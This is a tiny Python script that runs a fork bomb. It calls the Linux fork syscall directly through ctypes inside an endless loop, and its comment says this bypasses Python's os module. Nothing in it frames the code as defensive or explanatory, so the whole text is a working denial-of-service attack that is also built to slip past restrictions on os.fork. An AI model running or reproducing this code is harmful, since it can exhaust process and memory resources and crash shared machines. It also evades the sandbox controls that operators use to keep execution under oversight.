# fork through the raw syscall, bypassing Python's os module.
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
SYS_fork = 57
while True:
    libc.syscall(SYS_fork)
